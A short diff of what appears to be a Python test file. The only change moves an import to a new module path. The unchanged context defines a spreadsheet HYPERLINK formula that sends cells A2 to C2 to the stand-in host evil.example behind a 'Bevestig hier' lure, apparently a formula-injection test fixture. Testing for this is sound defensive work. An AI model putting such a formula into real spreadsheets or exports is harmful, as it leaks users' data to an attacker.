@@ -8,7 +8,7 @@ import io
 import re
 import zipfile
 
-from tests.test_web_answers import answer, links_on_page, mine, region  # noqa: F401
+from tests.web.test_answers import answer, links_on_page, mine, region  # noqa: F401
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A2&B2&C2,"Bevestig hier")'
 
